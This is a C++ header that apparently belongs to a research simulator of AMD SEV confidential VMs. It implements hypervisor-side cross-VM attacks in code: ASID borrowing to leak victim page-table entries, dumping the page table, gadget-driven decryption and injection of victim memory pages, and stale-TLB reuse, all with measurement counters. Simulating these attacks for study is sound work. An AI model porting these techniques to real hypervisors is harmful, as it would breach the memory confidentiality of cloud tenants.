#pragma once

// The cross-VM attack scenario library. Every recovered value flows through
// VMEXIT-visible channels only: EXITINFO2 and (plain SEV) the cleartext
// register save area. Ground truth stays on the test side.

#include <functional>
#include <map>
#include <optional>
#include <set>
#include <vector>

#include "sevsim/hypervisor.hpp"
#include "sevsim/scanner.hpp"

namespace sevsim {

struct LeakReport {
  // spa block -> recovered pfn field (C-bit cleared); nullopt = unleakable
  std::map<Spa, std::optional<uint64_t>> recovered;
  std::map<Spa, uint64_t> provenance;  // trace step of the revealing exit
  uint64_t attempts = 0;
  uint64_t npf_count = 0;
  uint64_t triple_fault_count = 0;
  uint64_t rmp_fault_count = 0;
  uint64_t vm_relaunch_count = 0;

  uint64_t leaked_bytes() const {
    uint64_t n = 0;
    for (const auto& [spa, v] : recovered)
      if (v) n += 8;
    return n;
  }
};

enum class V1Outcome { Leaked, Unleakable, Blocked };

struct V1Read {
  V1Outcome outcome = V1Outcome::Unleakable;
  uint64_t pfn = 0;  // valid when Leaked
};

namespace detail {

// scratch gCR3 gPA; any frame works since a leaked pfn aliasing it is a
// 2^-35 accident per block
inline constexpr uint64_t kScratchGpfn = 0x7A5A5A5A5ULL;

inline void book_exit(LeakReport* rep, Machine& m, Spa spa0, const VmExit& exit, V1Read& out) {
  if (rep) ++rep->attempts;
  switch (out.outcome) {
    case V1Outcome::Leaked:
      if (rep) {
        ++rep->npf_count;
        rep->recovered[spa0] = out.pfn;
        rep->provenance[spa0] = m.trace ? m.trace->steps() : 0;
      }
      break;
    case V1Outcome::Unleakable:
      if (rep) {
        if (exit.code == ExitCode::Shutdown) ++rep->triple_fault_count;
        rep->recovered[spa0] = std::nullopt;
      }
      break;
    case V1Outcome::Blocked:
      if (rep) ++rep->rmp_fault_count;
      break;
  }
}

}  // namespace detail

// Reads the 8-byte block at spa0 through the attacker VM: remap the
// attacker's gCR3 frame onto the target page, borrow the victim ASID, point
// RIP (and the IDT, so fault delivery re-reads the same entry) at the nRIP
// encoding the page offset, and harvest the next NPF's faulting gPA.
inline V1Read v1_read_block(Hypervisor& hv, GuestVm& victim, GuestVm& attacker, Spa spa0,
                            LeakReport* rep = nullptr, bool rewind = true) {
  if (spa0 & 7) throw Error(Err::UnalignedAddress);
  Machine& m = hv.machine();
  uint64_t offset = spa0 & kPageMask;

  Vmcb snap = vmcb_snapshot(attacker.vmcb);
  NestedPageTable npt_snap = attacker.npt;

  attacker.npt.clear_present_bits();
  Gpa scratch_gpa = detail::kScratchGpfn << kPfnShift;
  hv.remap_gpa(attacker, scratch_gpa, pfn_of(spa0));

  Vmcb& v = attacker.vmcb;
  Gva nrip = choose_nrip(offset);
  v.save.gcr3 = scratch_gpa | kCbitMask;
  v.save.rip = nrip;
  v.save.idtr_base = nrip;
  v.save.rflags &= ~kRflagsIf;
  v.virt_int_ctl = 0;
  v.nrip = nrip;
  hv.set_asid(attacker, victim.asid);
  v.tlb_control = 1;

  VmExit exit = hv.run(attacker, 16);

  V1Read out;
  if (exit.code == ExitCode::Npf) {
    out.outcome = V1Outcome::Leaked;
    out.pfn = exit.exitinfo2 >> kPfnShift;  // level-2 index bits are 0 by nRIP construction
  } else if (exit.code == ExitCode::RmpFault) {
    out.outcome = V1Outcome::Blocked;
  } else {
    out.outcome = V1Outcome::Unleakable;
  }
  detail::book_exit(rep, m, spa0, exit, out);

  if (rewind) {
    vmcb_restore(attacker.vmcb, snap);
    attacker.npt = npt_snap;
  } else if (exit.code == ExitCode::Shutdown) {
    if (rep) ++rep->vm_relaunch_count;
    throw Error(Err::VmRelaunchNeeded);
  }
  return out;
}

// Last-level variant: walk a real victim path down to the level-4 entry at
// (i1,i2,i3,i4) with the four table frames mapped and everything else
// non-present, so the data-page NPF reveals the leaf pfn. PS/G no longer
// disqualify the entry here.
inline V1Read v1_read_l4_entry(Hypervisor& hv, GuestVm& victim, GuestVm& attacker,
                               const std::array<uint64_t, 4>& table_gpfns,
                               uint64_t i1, uint64_t i2, uint64_t i3, uint64_t i4,
                               LeakReport* rep = nullptr) {
  Machine& m = hv.machine();
  Vmcb snap = vmcb_snapshot(attacker.vmcb);
  NestedPageTable npt_snap = attacker.npt;

  attacker.npt.clear_present_bits();
  for (uint64_t gpfn : table_gpfns)
    hv.remap_gpa(attacker, gpfn << kPfnShift, victim.gpa_to_spa.at(gpfn));

  Gva va = gva_from_indices(i1, i2, i3, i4, 0);
  Vmcb& v = attacker.vmcb;
  v.save.gcr3 = (table_gpfns[0] << kPfnShift) | kCbitMask;
  v.save.rip = va;
  v.save.idtr_base = va;
  v.save.rflags &= ~kRflagsIf;
  v.virt_int_ctl = 0;
  hv.set_asid(attacker, victim.asid);
  v.tlb_control = 1;

  VmExit exit = hv.run(attacker, 16);

  Spa spa0 = (victim.gpa_to_spa.at(table_gpfns[3]) << kPfnShift) + i4 * 8;
  V1Read out;
  if (exit.code == ExitCode::Npf) {
    out.outcome = V1Outcome::Leaked;
    out.pfn = exit.exitinfo2 >> kPfnShift;  // page-offset bits are 0: va has offset 0
  } else if (exit.code == ExitCode::RmpFault) {
    out.outcome = V1Outcome::Blocked;
  } else {
    out.outcome = V1Outcome::Unleakable;
  }
  detail::book_exit(rep, m, spa0, exit, out);

  vmcb_restore(attacker.vmcb, snap);
  attacker.npt = npt_snap;
  return out;
}

// Attack-side reconstruction of the victim's 4-level guest page table.
struct GptDump {
  uint64_t root_gpfn = 0;
  std::map<uint64_t, std::map<uint64_t, uint64_t>> tables;  // table gpfn -> idx -> child pfn
  std::map<uint64_t, int> level;                            // table gpfn -> 1..4
  bool blocked = false;                                     // SNP cut the dump short

  // table-frame path (levels 1..4) and leaf pfn for a mapped va
  std::array<uint64_t, 4> path(Gva va) const {
    std::array<uint64_t, 4> p{};
    uint64_t t = root_gpfn;
    for (int lvl = 1; lvl <= 4; ++lvl) {
      p[lvl - 1] = t;
      if (lvl < 4) t = tables.at(t).at(walk_index(va, lvl));
    }
    return p;
  }
  uint64_t leaf_pfn(Gva va) const {
    return tables.at(path(va)[3]).at(walk_index(va, 4));
  }
};

inline GptDump v1_dump_page_table(Hypervisor& hv, GuestVm& victim, GuestVm& attacker,
                                  LeakReport* rep = nullptr) {
  GptDump dump;
  Gpa gcr3 = hv.capture_gcr3(victim);
  dump.root_gpfn = pfn_of(gcr3);
  dump.level[dump.root_gpfn] = 1;

  struct Node {
    uint64_t gpfn;
    std::array<uint64_t, 3> idx;  // indices taken to reach this table
  };
  std::vector<Node> frontier{{dump.root_gpfn, {}}};

  for (int lvl = 1; lvl <= 3; ++lvl) {
    std::vector<Node> next;
    for (const Node& node : frontier) {
      Spa tspa = victim.gpa_to_spa.at(node.gpfn) << kPfnShift;
      for (uint64_t idx = 0; idx < 512; ++idx) {
        V1Read r = v1_read_block(hv, victim, attacker, tspa + idx * 8, rep);
        if (r.outcome == V1Outcome::Blocked) {
          dump.blocked = true;
          return dump;
        }
        if (r.outcome != V1Outcome::Leaked) continue;
        dump.tables[node.gpfn][idx] = r.pfn;
        dump.level[r.pfn] = lvl + 1;
        Node child = node;
        child.gpfn = r.pfn;
        child.idx[lvl - 1] = idx;
        next.push_back(child);
      }
    }
    frontier = std::move(next);
  }

  // level-4 tables need the last-level method: PS/G bits may be set on leaves
  for (const Node& node : frontier) {
    std::array<uint64_t, 4> path{dump.root_gpfn, 0, 0, node.gpfn};
    path[1] = dump.tables.at(dump.root_gpfn).at(node.idx[0]);
    path[2] = dump.tables.at(path[1]).at(node.idx[1]);
    for (uint64_t i4 = 0; i4 < 512; ++i4) {
      V1Read r = v1_read_l4_entry(hv, victim, attacker, path, node.idx[0], node.idx[1],
                                  node.idx[2], i4, rep);
      if (r.outcome == V1Outcome::Blocked) {
        dump.blocked = true;
        return dump;
      }
      if (r.outcome == V1Outcome::Leaked) dump.tables[node.gpfn][i4] = r.pfn;
    }
  }
  return dump;
}

// ---- V2: momentary execution (plain SEV only) ----

struct Gadget {
  Gva gva = 0;
  int addr_reg = 3;  // rbx
  int data_reg = 0;  // rax
  bool store = false;
};

struct MomentaryParams {
  Gva rip = 0;
  Gpa gcr3 = 0;  // victim CR3 value
  std::map<int, uint64_t> regs;
  std::vector<Gva> mapped_vas;         // walks that must succeed besides rip
  std::map<uint64_t, uint64_t> remap;  // gpfn -> replacement spfn, applied last
  uint64_t step_budget = 1;
};

inline SaveState v2_momentary_exec(Hypervisor& hv, GuestVm& victim, GuestVm& attacker,
                                   const GptDump& gpt, const MomentaryParams& p,
                                   VmExit* out_exit = nullptr) {
  if (victim.sev_class != SevClass::Sev || attacker.sev_class != SevClass::Sev)
    throw Error(Err::SevEsUnsupported, "RIP control needs a cleartext save area");

  Vmcb snap = vmcb_snapshot(attacker.vmcb);
  NestedPageTable npt_snap = attacker.npt;
  attacker.npt.clear_present_bits();

  auto map_walk = [&](Gva va) {
    auto path = gpt.path(va);
    for (uint64_t gpfn : path)
      hv.remap_gpa(attacker, gpfn << kPfnShift, victim.gpa_to_spa.at(gpfn));
    uint64_t leaf = gpt.leaf_pfn(va);
    hv.remap_gpa(attacker, leaf << kPfnShift, victim.gpa_to_spa.at(leaf));
  };
  map_walk(p.rip);
  for (Gva va : p.mapped_vas) map_walk(va);
  for (const auto& [gpfn, spfn] : p.remap) hv.remap_gpa(attacker, gpfn << kPfnShift, spfn);

  Vmcb& v = attacker.vmcb;
  v.save.gcr3 = p.gcr3;
  v.save.rip = p.rip;
  v.save.idtr_base = p.rip;
  v.save.rflags &= ~kRflagsIf;
  v.virt_int_ctl = 0;
  for (const auto& [r, val] : p.regs) v.save.regs[r] = val;
  hv.set_asid(attacker, victim.asid);
  v.tlb_control = 1;

  VmExit e = hv.run(attacker, p.step_budget);
  SaveState out = attacker.vmcb.save;

  vmcb_restore(attacker.vmcb, snap);
  attacker.npt = npt_snap;
  hv.machine().tlb.flush_asid(victim.asid);  // drop the poisoned translations
  if (out_exit) *out_exit = e;
  return out;
}

// 512 gadget invocations: target frame selected in the last-level nPT,
// page offset carried in the gadget's address register.
inline std::array<uint8_t, kPageSize> v2_decrypt_page(Hypervisor& hv, GuestVm& victim,
                                                      GuestVm& attacker, const GptDump& gpt,
                                                      const Gadget& g, Gva window_va,
                                                      Spa target_spa_page) {
  std::array<uint8_t, kPageSize> out{};
  uint64_t window_gpfn = gpt.leaf_pfn(window_va);
  for (uint64_t off = 0; off < kPageSize; off += 8) {
    MomentaryParams p;
    p.rip = g.gva;
    p.gcr3 = (gpt.root_gpfn << kPfnShift) | kCbitMask;
    p.mapped_vas = {window_va};
    p.remap[window_gpfn] = pfn_of(target_spa_page);
    p.regs[g.addr_reg] = page_of(window_va) | off;
    SaveState st = v2_momentary_exec(hv, victim, attacker, gpt, p);
    std::memcpy(out.data() + off, &st.regs[g.data_reg], 8);
  }
  return out;
}

inline void v2_encrypt_page(Hypervisor& hv, GuestVm& victim, GuestVm& attacker,
                            const GptDump& gpt, const Gadget& g, Gva window_va,
                            Spa target_spa_page, const uint8_t* content4096) {
  uint64_t window_gpfn = gpt.leaf_pfn(window_va);
  for (uint64_t off = 0; off < kPageSize; off += 8) {
    MomentaryParams p;
    p.rip = g.gva;
    p.gcr3 = (gpt.root_gpfn << kPfnShift) | kCbitMask;
    p.mapped_vas = {window_va};
    p.remap[window_gpfn] = pfn_of(target_spa_page);
    p.regs[g.addr_reg] = page_of(window_va) | off;
    uint64_t v;
    std::memcpy(&v, content4096 + off, 8);
    p.regs[g.data_reg] = v;
    v2_momentary_exec(hv, victim, attacker, gpt, p);
  }
  hv.machine().wbinvd();  // land the injected lines in DRAM under the victim key
}

// ---- V2 gadget location ----

struct LocatedGadgets {
  Gadget load;
  Gadget store;
  Gva image_base = 0;
  GptDump partial;  // lowest branch plus the image's full level-4 table
};

inline LocatedGadgets locate_gadgets(Hypervisor& hv, GuestVm& victim, GuestVm& attacker,
                                     const std::vector<uint8_t>& binary, bool server_hello,
                                     LeakReport* rep = nullptr) {
  if (!server_hello) throw Error(Err::GadgetNotFound, "serving process not observed");

  auto patterns = default_gadget_patterns();
  auto hits = scan_gadgets(binary, patterns);
  std::optional<uint64_t> load_off, store_off;
  for (const auto& h : hits) {
    if (h.pattern_id == 0 && !load_off) load_off = h.offset;
    if (h.pattern_id == 1 && !store_off) store_off = h.offset;
  }
  if (!load_off || !store_off) throw Error(Err::GadgetNotFound, "no usable mov encodings");

  LocatedGadgets out;
  GptDump& gpt = out.partial;
  gpt.root_gpfn = pfn_of(hv.capture_gcr3(victim));
  gpt.level[gpt.root_gpfn] = 1;

  // descend the lowest-index branch: the smallest valid entry at each level
  uint64_t t = gpt.root_gpfn;
  std::array<uint64_t, 3> idx{};
  std::array<uint64_t, 4> path{t, 0, 0, 0};
  for (int lvl = 1; lvl <= 3; ++lvl) {
    Spa tspa = victim.gpa_to_spa.at(t) << kPfnShift;
    bool found = false;
    for (uint64_t i = 0; i < 512 && !found; ++i) {
      V1Read r = v1_read_block(hv, victim, attacker, tspa + i * 8, rep);
      if (r.outcome == V1Outcome::Leaked) {
        gpt.tables[t][i] = r.pfn;
        gpt.level[r.pfn] = lvl + 1;
        idx[lvl - 1] = i;
        t = r.pfn;
        path[lvl] = t;
        found = true;
      }
    }
    if (!found) throw Error(Err::GadgetNotFound, "empty address space");
  }

  std::optional<uint64_t> first_i4;
  for (uint64_t i4 = 0; i4 < 512; ++i4) {
    V1Read r = v1_read_l4_entry(hv, victim, attacker, path, idx[0], idx[1], idx[2], i4, rep);
    if (r.outcome == V1Outcome::Leaked) {
      gpt.tables[t][i4] = r.pfn;
      if (!first_i4) first_i4 = i4;
    }
  }
  if (!first_i4) throw Error(Err::GadgetNotFound, "no mapped pages in the branch");

  out.image_base = gva_from_indices(idx[0], idx[1], idx[2], *first_i4, 0);
  // the image must be mapped where the file offsets land
  for (uint64_t off : {*load_off, *store_off}) {
    uint64_t i4 = *first_i4 + off / kPageSize;
    if (!gpt.tables[t].count(i4)) throw Error(Err::GadgetNotFound, "gadget page unmapped");
  }
  out.load = Gadget{out.image_base + *load_off, 3, 0, false};     // mov (%rbx),%rax
  out.store = Gadget{out.image_base + *store_off, 12, 0, true};   // mov %rax,(%r12)
  return out;
}

// ---- SEV-ES V1 ----

struct SevesRead {
  bool leaked = false;
  uint64_t offset = 0;  // dictated by the paused RIP, not attacker-chosen
  uint64_t pfn = 0;
  Gpa victim_gcr3 = 0;
};

inline SevesRead seves_v1_read(Hypervisor& hv, GuestVm& victim, GuestVm& attacker,
                               uint64_t target_spfn, LeakReport* rep = nullptr) {
  if (victim.sev_class != SevClass::SevEs || attacker.sev_class != SevClass::SevEs)
    throw Error(Err::SevEsUnsupported, "both VMs must be SEV-ES class");
  Machine& m = hv.machine();
  Vmcb snap = vmcb_snapshot(attacker.vmcb);
  NestedPageTable npt_snap = attacker.npt;

  attacker.npt.clear_present_bits();
  hv.set_vmsa_ptr(attacker, victim.vmcb.vmsa_ptr);
  hv.set_asid(attacker, victim.asid);
  attacker.vmcb.tlb_control = 1;

  auto restore = [&] {
    vmcb_restore(attacker.vmcb, snap);
    attacker.npt = npt_snap;
  };

  VmExit e1 = hv.run(attacker, 8);
  if (e1.code == ExitCode::VmrunIntegrityError) {
    restore();
    throw Error(Err::IntegrityError);
  }
  if (e1.code != ExitCode::Npf) {
    restore();
    throw Error(Err::VmCrashed, "no gCR3-revealing NPF");
  }

  SevesRead out;
  out.victim_gcr3 = page_of(e1.exitinfo2);
  out.offset = e1.exitinfo2 & kPageMask;

  hv.remap_gpa(attacker, out.victim_gcr3, target_spfn);
  attacker.vmcb.exitintinfo = 0;  // pending-event info must not resurface

  VmExit e2 = hv.run(attacker, 8);
  Spa spa0 = (target_spfn << kPfnShift) + out.offset;
  V1Read booked;
  if (e2.code == ExitCode::VmrunIntegrityError) {
    restore();
    throw Error(Err::IntegrityError);
  }
  if (e2.code == ExitCode::Npf) {
    out.leaked = true;
    out.pfn = e2.exitinfo2 >> kPfnShift;
    booked.outcome = V1Outcome::Leaked;
    booked.pfn = out.pfn;
  } else if (e2.code == ExitCode::RmpFault) {
    booked.outcome = V1Outcome::Blocked;
  } else {
    booked.outcome = V1Outcome::Unleakable;  // triple fault; CR2 residue accepted
  }
  detail::book_exit(rep, m, spa0, e2, booked);

  restore();
  return out;
}

// ---- SEV-ES offset-coverage campaign ----

// Chained NPFs after a present-bit clear: each fault's low 12 bits expose one
// 9-bit RIP field as a page offset (bits 47:39, 38:30, 29:21, 20:12).
inline std::vector<uint64_t> capture_rip_offsets(Hypervisor& hv, GuestVm& vm,
                                                 int max_levels = 4) {
  vm.npt.clear_present_bits();
  vm.vmcb.tlb_control = 1;
  std::vector<uint64_t> offs;
  for (int i = 0; i < max_levels; ++i) {
    VmExit e = hv.run(vm, 4);
    if (e.code != ExitCode::Npf) break;
    offs.push_back(e.exitinfo2 & kPageMask & ~7ULL);
    uint64_t gpfn = pfn_of(e.exitinfo2);
    auto it = vm.gpa_to_spa.find(gpfn);
    if (it == vm.gpa_to_spa.end()) break;
    vm.npt.map(gpfn << kPfnShift, it->second << kPfnShift);
    vm.vmcb.exitintinfo = 0;
  }
  vm.npt.restore_present_bits();
  return offs;
}

struct OffsetCoverage {
  std::vector<std::set<uint64_t>> rounds;

  // mean distinct-offset count over all C(n,N) round subsets, closed form
  double mean_coverage(int N) const {
    int n = static_cast<int>(rounds.size());
    if (N <= 0 || N > n) return 0.0;
    std::map<uint64_t, int> count;
    for (const auto& r : rounds)
      for (uint64_t o : r) ++count[o];
    double total = 0.0;
    for (const auto& [o, c] : count) {
      // P(offset absent from a random N-subset) = C(n-c,N)/C(n,N)
      double absent = 1.0;
      for (int j = 0; j < N; ++j) {
        if (n - c - j <= 0) {
          absent = 0.0;
          break;
        }
        absent *= static_cast<double>(n - c - j) / static_cast<double>(n - j);
      }
      total += 1.0 - absent;
    }
    return total;
  }

  std::vector<double> cumulative() const {
    std::vector<double> out;
    for (int N = 1; N <= static_cast<int>(rounds.size()); ++N)
      out.push_back(mean_coverage(N));
    return out;
  }
};

struct CampaignParams {
  int rounds = 6;
  int slices_per_round = 3300;
  int slice_steps = 32;           // one slice advances the workload one page
  int clear_period_slices = 94;   // the periodic present-bit clear
  int pause_every_npf = 13;       // pause cadence over NPF-class AEs
};

// launch_victim(round) must return a freshly laid-out SEV-ES victim
// (address layout re-randomized per round).
inline OffsetCoverage seves_offset_campaign(Hypervisor& hv,
                                            const std::function<GuestVm&(int)>& launch_victim,
                                            const CampaignParams& prm = {}) {
  OffsetCoverage cov;
  for (int r = 0; r < prm.rounds; ++r) {
    GuestVm& vm = launch_victim(r);
    std::set<uint64_t> seen;
    uint64_t npf_ae = 0;
    for (int slice = 0; slice < prm.slices_per_round && !vm.crashed; ++slice) {
      if (slice % prm.clear_period_slices == 0) {
        hv.clear_present_bits(vm);
        vm.vmcb.tlb_control = 1;
      }
      VmExit e = hv.run(vm, prm.slice_steps);
      while (e.code == ExitCode::Npf) {
        ++npf_ae;
        if (npf_ae % prm.pause_every_npf == 0) {
          for (uint64_t o : capture_rip_offsets(hv, vm)) seen.insert(o);
          // keep the fault stream alive until the next capture
          hv.clear_present_bits(vm);
          vm.vmcb.tlb_control = 1;
        } else {
          hv.handle_exit(vm, e);
        }
        e = hv.run(vm, prm.slice_steps);
      }
      if (e.code == ExitCode::Shutdown) {
        hv.handle_exit(vm, e);
        break;
      }
    }
    cov.rounds.push_back(std::move(seen));
  }
  return cov;
}

// Measurement harness for the uniform-RIP statistic: repositions the paused
// victim cooperatively (its own key), then samples the first-field offset
// through the real NPF channel. One offset per sample.
inline std::set<uint64_t> uniform_rip_offsets(Hypervisor& hv, GuestVm& vm, uint64_t samples,
                                              SplitMix64& rng) {
  std::set<uint64_t> seen;
  for (uint64_t k = 0; k < samples; ++k) {
    SaveState st = hv.read_vmsa(vm);
    Gva va = rng.next() & kPhysAddrMask;
    if (va & (1ULL << 47)) va |= 0xFFFF000000000000ULL;
    st.rip = va;
    hv.write_vmsa(vm, st);
    vm.npt.clear_present_bits();
    vm.vmcb.tlb_control = 1;
    VmExit e = hv.run(vm, 4);
    if (e.code == ExitCode::Npf) seen.insert(e.exitinfo2 & kPageMask & ~7ULL);
    vm.npt.restore_present_bits();
  }
  return seen;
}

// ---- V3: residual TLB reuse ----

struct V3Result {
  bool cpuid_seen = false;
  uint32_t r11d = 0;
  uint32_t r12d = 0;
  uint64_t npf_count = 0;
  bool shutdown = false;
};

// The victim must have executed the probe loop so its code translation is
// cached; the hypervisor deliberately omits TLB flushes throughout.
inline V3Result v3_tlb_reuse(Hypervisor& hv, GuestVm& victim, GuestVm& attacker, Gva code_gva,
                             bool flush_tlb_first, int max_exits = 8) {
  Vmcb snap = vmcb_snapshot(attacker.vmcb);
  if (flush_tlb_first) hv.machine().tlb.flush_asid(victim.asid);

  hv.set_asid(attacker, victim.asid);
  hv.set_sev_bit(attacker, SevClass::Sev);
  attacker.vmcb.save.rip = code_gva;
  attacker.vmcb.save.rflags &= ~kRflagsIf;
  attacker.vmcb.virt_int_ctl = 0;
  // no tlb_control request and no nPT edits: the stale entries are the channel

  V3Result res;
  for (int i = 0; i < max_exits; ++i) {
    VmExit e = hv.run(attacker, 64);
    if (e.code == ExitCode::Npf) {
      ++res.npf_count;
      break;
    }
    if (e.code == ExitCode::Cpuid) {
      res.cpuid_seen = true;
      res.r11d = static_cast<uint32_t>(attacker.vmcb.save.regs[11]);
      res.r12d = static_cast<uint32_t>(attacker.vmcb.save.regs[12]);
      // model the eventual eviction, after which the borrowed ride crashes
      hv.machine().tlb.flush_asid(victim.asid);
      attacker.vmcb.save.rip += 2;
      continue;
    }
    if (e.code == ExitCode::Shutdown) {
      res.shutdown = true;
      break;
    }
    break;
  }
  vmcb_restore(attacker.vmcb, snap);
  return res;
}

}  // namespace sevsim
